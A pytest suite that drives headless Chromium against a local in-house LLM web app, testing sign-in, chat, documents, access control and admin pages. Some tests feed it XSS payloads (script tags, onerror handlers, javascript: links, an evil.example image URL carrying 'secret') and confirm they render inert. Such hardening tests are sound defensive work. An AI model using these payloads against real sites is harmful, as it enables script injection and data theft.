"""The web UI in a real headless Chromium (Debian's ``chromium``, driven by Playwright; no browser download).

A real uvicorn server on 127.0.0.1 (``live_server``) with the production wiring: real key store, directory,
audit log, knowledge base (FakeEmbedder) and a fake engine whose replies are scripted by the prompt:

* a knowledge prompt ("Context passages:") → an answer citing [1];
* "XSS" → model output full of HTML/script/remote-image/javascript: payloads;
* "forever" → a generation that never ends by itself (the stop button must end it);
* anything else → a short Markdown answer.

Every page fails its test on a console error or an uncaught page error, and every request the browser makes
is recorded: none may leave the test server's origin. Screenshots go to docs/screenshots/.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from live_server import LiveServer, run_live_server

from inhouse.engine.backends.fake import EOS_ID, ScriptInput, decode_tokens, encode_text
from inhouse.testing.fakes import build_fake_engine
from inhouse.types import Actor

CHROMIUM = Path("/usr/bin/chromium")
playwright_api = pytest.importorskip("playwright.sync_api")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium is not installed (scripts/test.sh installs it)"),
]
LAUNCH_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
               "--disable-background-networking", "--disable-component-update", "--disable-sync"]
SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
TIMEOUT_MS = 10_000

XSS_REPLY = (
    "Here you go: <script>alert(1)</script> and <img src=x onerror=alert(1)>\n\n"
    "[click me](javascript:alert(1)) and ![a](http://evil.example/x.png?q=secret)\n\n"
    "<a href=\"http://evil.example/\">plain html link</a> [same origin](/documents)"
)
KNOWLEDGE_REPLY = "The daily meal allowance on business trips is **180 CNY** [1]."
PLAIN_REPLY = "Hello! I am a *local* model.\n\n- private\n- fast\n\n```\ncode stays code\n```"
# The minutes assistant's window prompt ("Transcript lines L1-L3:") gets canned minutes that verify against
# MINUTES_TRANSCRIPT (the right lines, an attendee as owner, the deadline words as spoken).
MINUTES_TRANSCRIPT = ("Alice: Decision: the beta ships with the new installer.\nBob: Sounds good.\n"
                      "Alice: I will send the report by Friday.\n")
MINUTES_REPLY = json.dumps({
    "title": "Beta review", "summary": "The beta ships with the new installer; Alice sends the report.",
    "decisions": [{"line": 1, "decision": "The beta ships with the new installer."}],
    "action_items": [{"line": 3, "owner": "Alice", "task": "Send the report", "due": "by Friday"}],
    "open_questions": [], "next_meeting": None})


def scripted(inp: ScriptInput) -> int:
    prompt = decode_tokens(inp.prompt)
    n = len(inp.generated)
    if "forever" in prompt:
        return encode_text("ab")[n % 2]
    if "Transcript lines" in prompt:
        reply = MINUTES_REPLY
    elif "Context passages:" in prompt:
        reply = KNOWLEDGE_REPLY
    elif "XSS" in prompt:
        reply = XSS_REPLY
    else:
        reply = PLAIN_REPLY
    tokens = encode_text(reply)
    return tokens[n] if n < len(tokens) else EOS_ID


@dataclass
class Site:
    server: LiveServer
    admin: str
    finance: str
    outsider: str

    @property
    def url(self) -> str:
        return self.server.url

    def metric(self, name: str) -> float:
        text = httpx.get(self.url + "/metrics", headers={"Authorization": f"Bearer {self.admin}"}).text
        return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines()
                   if line.startswith(name + "{") or line.startswith(name + " "))


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    tmp = tmp_path_factory.mktemp("web")
    # min_similarity 0: every knowledge question reaches the (scripted) model with the passages it may see.
    # The assistants run on the scripted fake model.
    settings = {"kb": {"embedder": "fake", "min_similarity": 0}, "apps": {"model": "fake-model"}}
    with run_live_server(tmp / "data", settings=settings,
                         load_engine=lambda spec: build_fake_engine(spec.name, n_ctx=4096, script=scripted,
                                                                    delay_s=0.004)) as server:
        s = server.services
        d = s.directory
        fin, hr = d.create_group("finance"), d.create_group("hr")
        fiona, oscar = d.create_user("fiona", display_name="Fiona Finance"), d.create_user("oscar")
        d.add_member(fin.id, fiona.id)
        d.add_member(hr.id, oscar.id)
        _, finance = s.keys.create_key("fiona laptop", user_id=fiona.id)
        _, outsider = s.keys.create_key("oscar laptop", user_id=oscar.id)
        kb = s.kb
        assert kb is not None
        root = Actor("key_setup", "setup", role="admin")
        kb.create_collection(root, "handbook", groups=["hr", "finance"], description="Staff handbook")
        kb.create_collection(root, "finance", groups=["finance"], description="Finance only")
        kb.add_document(root, "handbook", b"# Travel policy\n\nThe daily meal allowance on business trips is "
                        b"180 CNY. Hotels cost at most 600 CNY per night in tier-1 cities.\n", "travel-policy.md",
                        label="internal")
        kb.add_document(root, "finance", b"# Q3 results\n\nDraft CANARY-FIN-WEBUI: revenue 412.6 million.\n",
                        "q3-results.md", label="confidential")
        yield Site(server, server.admin_key, finance, outsider)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
        yield b
        b.close()


@dataclass
class Watch:
    """What a page did: console errors, page errors, dialogs, every request URL."""

    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


@dataclass
class UI:
    page: Any
    watch: Watch
    site: Site

    def go(self, path: str) -> None:
        self.page.goto(self.site.url + path)

    def sign_in(self, key: str) -> None:
        self.go("/signin")
        self.page.fill("#key", key)
        self.page.click("#signin-submit")
        self.page.wait_for_url(self.site.url + "/")

    def shot(self, name: str) -> None:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"))


@pytest.fixture()
def ui_factory(browser: Any, site: Site) -> Iterator[Callable[..., UI]]:
    contexts: list[tuple[Any, Watch]] = []

    def make(*, javascript: bool = True, lang: str = "en") -> UI:
        ctx = browser.new_context(java_script_enabled=javascript, viewport={"width": 1280, "height": 800},
                                  locale="zh-CN" if lang == "zh" else "en-US")
        ctx.set_default_timeout(TIMEOUT_MS)
        watch = Watch()
        page = ctx.new_page()
        page.on("console", lambda m: watch.errors.append(f"console.{m.type}: {m.text}") if m.type == "error" else None)
        page.on("pageerror", lambda e: watch.errors.append(f"pageerror: {e}"))
        page.on("dialog", lambda d: (watch.dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: watch.requests.append(r.url))
        contexts.append((ctx, watch))
        return UI(page, watch, site)

    yield make
    for ctx, watch in contexts:
        ctx.close()
        assert not watch.errors, watch.errors
        assert not watch.dialogs, watch.dialogs
        foreign = [u for u in watch.requests if not u.startswith(site.url + "/") and not u.startswith("data:")]
        assert not foreign, f"requests left the server: {foreign}"


@pytest.fixture()
def ui(ui_factory: Callable[..., UI]) -> UI:
    return ui_factory()


# -- sign-in -----------------------------------------------------------------------------------------


def test_sign_in_error_shown_without_javascript(ui_factory: Callable[..., UI]) -> None:
    ui = ui_factory(javascript=False)
    ui.go("/signin")
    assert ui.page.is_visible("noscript >> text=needs JavaScript") or "JavaScript" in ui.page.content()
    ui.page.fill("#key", "ih_not_a_real_key")
    ui.page.click("#signin-submit")
    assert "not valid" in ui.page.inner_text("#signin-error")
    assert ui.page.get_attribute("#key", "aria-invalid") == "true"
    ui.page.fill("#key", ui.site.admin)
    ui.page.click("#signin-submit")
    assert "needs JavaScript" in ui.page.inner_text("#signin-notice")
    assert ui.site.admin not in ui.page.content()  # the key is never echoed back
    assert all("ih_" not in u for u in ui.watch.requests)  # nor put in a URL


def test_sign_in_with_javascript_and_sign_out(ui: UI) -> None:
    ui.go("/")
    ui.page.wait_for_url(ui.site.url + "/signin")  # no key: back to sign-in
    ui.page.fill("#key", "ih_wrong")
    ui.page.click("#signin-submit")
    ui.page.wait_for_selector("#signin-error:not([hidden])")
    assert "not valid" in ui.page.inner_text("#signin-error")
    ui.shot("signin")
    ui.page.fill("#key", ui.site.admin)
    ui.page.click("#signin-submit")
    ui.page.wait_for_url(ui.site.url + "/")
    assert ui.page.evaluate("sessionStorage.getItem('inhouse.key')") == ui.site.admin
    assert ui.page.evaluate("document.cookie").find("ih_") == -1
    ui.page.click("#signout")
    ui.page.wait_for_url(ui.site.url + "/signin")
    assert ui.page.evaluate("sessionStorage.getItem('inhouse.key')") is None


def test_pages_carry_a_strict_content_security_policy(site: Site) -> None:
    for path in ("/", "/signin", "/documents", "/assistants", "/admin"):
        r = httpx.get(site.url + path)
        assert r.status_code == 200
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "img-src 'self' data:" in csp
        assert "<script>" not in r.text and "onclick=" not in r.text  # no inline code at all


# -- chat --------------------------------------------------------------------------------------------


def until(ui: UI, expression: str, timeout_s: float = TIMEOUT_MS / 1000) -> None:
    """Poll a JS expression (page.wait_for_function compiles it with eval, which the pages' CSP forbids)."""
    deadline = time.monotonic() + timeout_s
    while not ui.page.evaluate(expression):
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {expression}")
        time.sleep(0.05)


def ask(ui: UI, text: str) -> None:
    ui.page.fill("#prompt", text)
    ui.page.keyboard.press("Enter")


def last_answer(ui: UI) -> Any:
    return ui.page.locator(".msg-assistant").last


def test_chat_with_knowledge_streams_an_answer_with_a_citation_that_opens(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.page.wait_for_selector("#model option", state="attached")
    ui.page.check("#knowledge", force=True)
    ui.page.wait_for_selector("label[for^='col-']:has-text('handbook')")
    ui.page.click("label:has-text('handbook')")
    ask(ui, "What is the meal allowance on business trips?")
    ui.page.wait_for_selector(".msg-assistant .cite")
    answer = last_answer(ui)
    assert "180 CNY" in answer.inner_text()
    assert answer.locator("strong").inner_text() == "180 CNY"  # Markdown rendered
    answer.locator(".cite").first.click()
    ui.page.wait_for_selector("#source-panel:not([hidden])")
    assert "meal allowance" in ui.page.inner_text("#source-body")
    assert "Travel policy" in ui.page.inner_text("#source-body")
    assert "null" not in ui.page.inner_text("#source-body")
    ui.page.wait_for_selector(".history-item")
    ui.shot("chat")
    # History is kept on the server: a fresh page lists the conversation and reopens it with its citations.
    ui.page.reload()
    ui.page.click(".history-item >> nth=0")
    ui.page.wait_for_selector(".msg-assistant .cite")
    assert "meal allowance" in ui.page.inner_text(".msg-user")


def test_plain_chat_copy_and_regenerate(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.page.wait_for_selector("#model option", state="attached")
    ask(ui, "Say hello")
    ui.page.wait_for_selector("#regenerate")
    answer = last_answer(ui)
    assert answer.locator("em").inner_text() == "local"
    assert answer.locator("li").count() == 2 and "code stays code" in answer.locator("pre").inner_text()
    answer.get_by_role("button", name="Copy").click()
    ui.page.wait_for_selector(".toast")
    ui.page.click("#regenerate")
    ui.page.wait_for_selector("#regenerate")
    assert ui.page.locator(".msg-assistant").count() == 1  # regenerated in place


def test_stop_button_ends_the_generation_on_the_server(ui: UI) -> None:
    before = ui.site.metric("inhouse_engine_aborted_total")
    ui.sign_in(ui.site.admin)
    ui.page.wait_for_selector("#model option", state="attached")
    ask(ui, "please talk forever")
    ui.page.wait_for_selector("#stop:not([hidden])")
    until(ui, "(document.querySelector('.msg-assistant:last-child .msg-body')?.textContent || '').length > 20")
    ui.page.click("#stop")
    ui.page.wait_for_selector(".msg-note")
    assert ui.page.is_hidden("#stop") and ui.page.is_visible("#send")
    deadline = time.monotonic() + 5
    while ui.site.metric("inhouse_engine_aborted_total") <= before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert ui.site.metric("inhouse_engine_aborted_total") > before


def test_model_output_with_html_and_exfiltration_links_renders_inert(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.page.wait_for_selector("#model option", state="attached")
    ask(ui, "XSS test please")
    ui.page.wait_for_selector("#regenerate")
    body = last_answer(ui).locator(".msg-body")
    text = body.inner_text()
    assert "<script>alert(1)</script>" in text and "<img src=x onerror=alert(1)>" in text  # shown as text
    assert body.locator("script, img, iframe, object").count() == 0
    links = body.locator("a")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert hrefs == [ui.site.url + "/documents"]  # only the same-origin link is live
    assert body.locator(".md-link-inert", has_text="click me").count() == 1
    assert body.locator(".md-image-alt").count() == 1
    ui.page.wait_for_timeout(300)  # give any (wrongly) injected handler time to fire
    assert not any("evil.example" in u for u in ui.watch.requests)


# -- documents ---------------------------------------------------------------------------------------


def test_upload_documents_and_find_them_by_search(ui: UI, tmp_path: Path) -> None:
    parking = tmp_path / "parking.md"
    parking.write_text("# Parking\n\nStaff park in garage B; the barrier code is PARKING-7731.\n")
    canteen = tmp_path / "canteen.txt"
    canteen.write_text("The canteen opens at 11:30 and serves vegetarian dishes every day.\n")
    ui.sign_in(ui.site.admin)
    ui.go("/documents")
    ui.page.click("button[data-collection='handbook']")
    ui.page.wait_for_selector("#doc-rows tr")
    ui.page.select_option("#upload-label", "public")
    ui.page.set_input_files("#file-input", [str(parking), str(canteen)])
    until(ui, "document.querySelectorAll('.upload.is-done').length === 2")
    assert "added" in ui.page.inner_text("#uploads")
    ui.page.wait_for_selector("#doc-rows tr:has-text('parking.md')")
    row = ui.page.locator("#doc-rows tr", has_text="parking.md")
    assert "public" in row.inner_text() and "indexed" in row.inner_text()
    ui.page.fill("#search-q", "barrier code for the garage")
    ui.page.click("#search-form button")
    ui.page.wait_for_selector(".hit")
    assert "PARKING-7731" in ui.page.inner_text("#search-results")
    ui.shot("documents")
    # Relabel, then delete.
    row.get_by_role("button", name="Edit").click()
    ui.page.select_option("#doc-label", "confidential")
    ui.page.click("#doc-save")
    ui.page.wait_for_selector("#doc-rows tr:has-text('canteen.txt')")
    until(ui, "[...document.querySelectorAll('#doc-rows tr')].some(r => r.textContent.includes('parking.md')"
              " && r.textContent.includes('confidential'))")
    canteen_row = ui.page.locator("#doc-rows tr", has_text="canteen.txt")
    canteen_row.get_by_role("button", name=re.compile("Delete")).click()
    canteen_row.get_by_role("button", name=re.compile("Delete")).click()
    ui.page.wait_for_selector("#doc-rows tr:has-text('canteen.txt')", state="detached")


def test_non_finance_user_sees_no_finance_collection(ui: UI) -> None:
    ui.sign_in(ui.site.outsider)
    ui.page.wait_for_selector("label[for^='col-']:has-text('handbook')", state="attached")
    chips = ui.page.locator("#collection-options").inner_text()
    assert "handbook" in chips and "finance" not in chips
    ui.go("/documents")
    ui.page.wait_for_selector("button[data-collection='handbook']")
    assert ui.page.locator("button[data-collection='finance']").count() == 0
    assert "CANARY" not in ui.page.content()
    assert ui.page.is_hidden("a[href='/admin']")
    ui.go("/admin")
    ui.page.wait_for_selector("#admin-denied:not([hidden])")


def test_finance_user_sees_finance(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/documents")
    ui.page.wait_for_selector("button[data-collection='finance']")


# -- assistants and admin ----------------------------------------------------------------------------


def test_assistants_page_lists_the_assistants(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    cards = ui.page.locator("[data-assistant]")
    assert cards.count() == 4
    assert "Meeting minutes" in ui.page.inner_text("#assistant-minutes")
    ui.shot("assistants")


def test_minutes_page_shows_action_items(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    ui.page.wait_for_selector("#minutes-form")
    ui.page.fill("#minutes-text", MINUTES_TRANSCRIPT)
    ui.page.fill("#minutes-date", "2026-10-14")  # a Wednesday: "by Friday" is 2026-10-16
    ui.page.click("#minutes-go")
    row = ui.page.locator("#minutes-actions tbody tr")
    row.first.wait_for()
    assert row.count() == 1
    cells = [c.strip() for c in row.first.locator("td").all_inner_texts()]
    assert cells == ["Alice", "Send the report", "2026-10-16", "L3"]
    assert "new installer" in ui.page.inner_text("#minutes-decisions")
    assert ui.page.inner_text("#minutes-summary").startswith("The beta ships")
    assert ui.page.is_visible("#minutes-md") and ui.page.is_visible("#minutes-ics")
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    ui.page.set_viewport_size({"width": 1280, "height": 1200})  # the whole card, action items included
    ui.page.locator("#assistant-minutes").screenshot(path=str(SCREENSHOTS / "minutes.png"))


def chat_traffic(site: Site, stop: threading.Event) -> None:
    headers = {"Authorization": f"Bearer {site.admin}"}
    with httpx.Client(base_url=site.url, headers=headers, timeout=10) as client:
        while not stop.is_set():
            client.post("/v1/chat/completions", json={"model": "fake-model", "messages": [
                {"role": "user", "content": "Say hello"}]})


def test_admin_page_shows_live_charts_keys_and_audit(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    stop = threading.Event()
    traffic = threading.Thread(target=chat_traffic, args=(ui.site, stop), daemon=True)
    traffic.start()  # something for the charts to show
    try:
        ui.go("/admin")
        ui.page.wait_for_selector("#model-rows tr")
        until(ui, "Number(document.body.dataset.metricsPolls || 0) >= 3", timeout_s=15)
    finally:
        stop.set()
        traffic.join(5)
    for chart in ("tokens", "queue", "ttft", "dest"):
        drawn = ui.page.evaluate(
            "id => { const c = document.getElementById(id); const d = c.getContext('2d')"
            ".getImageData(0, 0, c.width, c.height).data; let n = 0; for (let i = 3; i < d.length; i += 4)"
            " if (d[i]) n++; return n; }", f"chart-{chart}")
        assert drawn > 100, chart
    assert ui.page.inner_text("#value-dest") != "—"
    assert "fake-model" in ui.page.inner_text("#model-rows")
    ui.shot("admin")
    # Keys: a new key's secret is shown once.
    ui.page.click("#tab-keys")
    ui.page.wait_for_selector("#key-rows tr")
    ui.page.fill("#key-name", "ci robot")
    ui.page.click("#key-form button[type=submit]")
    ui.page.wait_for_selector("#secret-dialog[open]")
    assert ui.page.input_value("#secret-value").startswith("ih_")
    ui.page.click("#secret-dialog button[type=submit]")
    ui.page.wait_for_selector("#key-rows tr:has-text('ci robot')")
    # Users and groups.
    ui.page.click("#tab-users")
    ui.page.wait_for_selector("#user-rows tr:has-text('fiona')")
    ui.page.click("#tab-groups")
    ui.page.wait_for_selector(".group-card:has-text('finance')")
    # Audit: filters and the chain check.
    ui.page.click("#tab-audit")
    ui.page.wait_for_selector("#audit-rows tr")
    ui.page.fill("#audit-action", "keys")
    ui.page.click("#audit-form button[type=submit]")
    ui.page.click("#audit-verify")
    ui.page.wait_for_selector("#verify-result:not([hidden])")
    assert "intact" in ui.page.inner_text("#verify-result")
    ui.shot("admin-audit")
    ui.page.click("#tab-policies")
    ui.page.wait_for_selector(".stat")
    assert "0" in ui.page.inner_text(".stat-good")  # nothing confidential went out


def test_admin_tabs_work_with_the_keyboard(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.go("/admin")
    ui.page.focus("#tab-overview")
    ui.page.keyboard.press("ArrowRight")
    assert ui.page.evaluate("document.activeElement.id") == "tab-users"
    assert ui.page.is_visible("#panel-users") and ui.page.is_hidden("#panel-overview")


# -- language, accessibility, the renderer -----------------------------------------------------------


def test_language_switch_is_remembered(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.page.click("button[data-set-lang='zh']")
    ui.page.wait_for_selector("html[lang='zh-CN']")
    assert "对话" in ui.page.inner_text("nav")
    ui.go("/documents")
    assert ui.page.get_attribute("html", "lang") == "zh-CN"
    assert ui.page.evaluate("localStorage.getItem('inhouse.lang')") == "zh"
    ui.shot("documents-zh")
    ui.page.click("button[data-set-lang='en']")
    ui.page.wait_for_selector("html[lang='en']")


def test_every_control_has_a_label(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    for path in ("/", "/documents", "/admin", "/assistants"):
        ui.go(path)
        ui.page.wait_for_load_state("networkidle")
        unlabelled = ui.page.evaluate(
            "() => [...document.querySelectorAll('input, select, textarea, button')].filter(e => {"
            " if (e.type === 'hidden') return false;"
            " const name = (e.labels && e.labels.length) || e.getAttribute('aria-label') || e.textContent.trim()"
            "  || e.getAttribute('title'); return !name; }).map(e => e.outerHTML.slice(0, 80))")
        assert not unlabelled, (path, unlabelled)


MARKDOWN_CASES = [
    ("# Title", "h3", "Title"),
    ("**bold** and *it*", "strong", "bold"),
    ("1. one\n2. two", "ol li", "one"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "td", "1"),
    ("> quoted", "blockquote", "quoted"),
    ("`x<y>`", "code", "x<y>"),
]


def test_markdown_renderer_builds_safe_dom(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    for source, selector, text in MARKDOWN_CASES:
        got = ui.page.evaluate(
            "([src, sel]) => { const d = document.createElement('div'); d.append(inhouse.renderMarkdown(src));"
            " const n = d.querySelector(sel); return n ? n.textContent : null; }", [source, selector])
        assert got == text, (source, got)
    hostile = ["<svg onload=alert(1)>", "[x](JaVaScRiPt:alert(1))", "[x](//evil.example/)", "[x](data:text/html,hi)",
               "![x](/static/favicon.svg)", "<iframe src=//evil.example>", "[x](http://evil.example)"]
    for source in hostile:
        html = ui.page.evaluate(
            "src => { const d = document.createElement('div'); d.append(inhouse.renderMarkdown(src));"
            " return d.innerHTML; }", source)
        assert "<svg" not in html and "<img" not in html and "<iframe" not in html and "href" not in html, html

